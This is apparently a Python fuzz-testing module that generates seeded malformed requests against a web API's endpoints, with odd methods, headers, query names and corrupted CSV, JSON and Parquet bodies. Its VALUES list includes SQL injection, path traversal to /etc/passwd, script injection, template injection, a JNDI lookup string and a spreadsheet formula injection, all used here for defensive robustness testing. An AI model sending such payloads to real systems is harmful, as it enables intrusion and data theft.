"""Requests that no program should send: 1,000 of them from one seed, over every call that the API has."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from random import Random

from pages.api.serving import ENDPOINTS, PREFIX
from tests.server.asking import CURVES, TABLE

SCORES = "query,model,score,cost_usd,domain\n" + "".join(
    f"q{i},{model},{(i * step) % 7 < 4:d},{price},d{i % 3}\n"
    for i in range(40)
    for model, step, price in (("small", 3, 0.0001), ("big", 5, 0.004))
)
VALUES = (
    "", " ", "nan", "inf", "-inf", "-1", "0", "1e308", "1e-308", "1e999", "9" * 400, "0x10", "1_000", "1,000", "½", "٣",
    "true", "null", "None", "undefined", "[]", "{}", "*", "%", "%00", "\0", "\ud7ff", "😀" * 50, "ａｂｃ", "\u202eevil",
    "' OR 1=1 --", '"; DROP TABLE model; --', "../../etc/passwd", "<script>alert(1)</script>", "[x](http://e.example)",
    "{{7*7}}", "${jndi:ldap://e.example}", "=cmd|' /C calc'!A0", "a" * 5_000, ",".join(["a"] * 500), ":" * 50,
    "min:max", "cost:min,cost:min", "quality:max:min", "1:2:3", "1,,2", "lm-arena-chat", "H100", "self-hosted",
    "api", "rectified",
)  # fmt: skip
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "BREW", "get")
KINDS = (
    "text/csv",
    "application/json",
    "application/vnd.apache.parquet",
    "multipart/form-data; boundary=x",
    "",
    "a/b;c",
)
NAMES = ("utm", "__proto__", "min.", "max.x", "in.", "limit", "offset", "page", "ｌａｗ", "law[]", "", "a" * 300)
CELLS = ("", "nan", "inf", "-1", "0", "1e999", "1e308", "abc", "\0", '"', '""', "'", "=1+1", "é", "\u2028", "9" * 400)


@dataclass(frozen=True)
class BadRequest:
    """One request: what to send, and where."""

    method: str
    path: str
    query: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)


def bad_requests(count: int, seed: int) -> Iterator[BadRequest]:
    """`count` requests, the same for one seed; every call is asked in turn, each fault by chance."""
    random = Random(seed)
    for number in range(count):
        endpoint = ENDPOINTS[number % len(ENDPOINTS)]
        path = endpoint.path.replace("{form}", random.choice(("json", "csv", "xml", "")))
        for name in re.findall(r"{\w+}", path):
            path = path.replace(name, random.choice(("llm-serving", "api-models", *VALUES)).replace("\0", ""))
        names = [*(parameter.name for parameter in endpoint.parameters), random.choice(NAMES)]
        query = tuple(
            (
                name + random.choice(("x", "label", "cost_usd", "")) if name.endswith(".") else name,
                random.choice(VALUES),
            )
            for name in random.sample(names, k=random.randint(0, min(4, len(names))))
        )
        method = endpoint.method if random.random() < 0.8 else random.choice(METHODS)
        headers = {"Accept": random.choice(("*/*", "text/csv", "application/json", "image/png", "q=;,,"))}
        body = b""
        if endpoint.body or random.random() < 0.1:
            body = spoilt(random.choice((CURVES, TABLE, SCORES)).encode(), random)
            headers["Content-Type"] = random.choice(("text/csv", *KINDS))
        yield BadRequest(method, f"{PREFIX}/{path}", query, body, headers)


def spoilt(body: bytes, random: Random) -> bytes:
    """A body with one fault."""
    return random.choice(FAULTS)(body, random)


def _cut(body: bytes, random: Random) -> bytes:
    return body[: random.randrange(len(body))]


def _foreign_bytes(body: bytes, random: Random) -> bytes:
    place = random.randrange(len(body))
    return body[:place] + random.randbytes(random.randint(1, 40)) + body[place:]


def _shuffled(body: bytes, random: Random) -> bytes:
    lines = body.split(b"\n")
    return b"\n".join(random.sample(lines, len(lines)))


def _other_cell(body: bytes, random: Random) -> bytes:
    lines = body.split(b"\n")
    row = random.randrange(len(lines) - 1)
    cells = lines[row].split(b",")
    cells[random.randrange(len(cells))] = random.choice(CELLS).encode()
    lines[row] = b",".join(cells)
    return b"\n".join(lines)


def _no_parquet(_body: bytes, random: Random) -> bytes:
    return b"PAR1" + random.randbytes(200) + b"PAR1"


def _no_json(_body: bytes, random: Random) -> bytes:
    return b'[{"curve":"a","x":1,"y":' + b"[" * random.choice((1, 2_000)) + b"}]"


def _noise(_body: bytes, random: Random) -> bytes:
    return random.randbytes(random.randint(0, 400))


def _other_encoding(body: bytes, random: Random) -> bytes:
    return body.decode().encode(random.choice(("utf-16", "utf-8-sig", "utf-32", "cp500")))


FAULTS = (_cut, _foreign_bytes, _shuffled, _other_cell, _other_cell, _no_parquet, _no_json, _noise, _other_encoding)
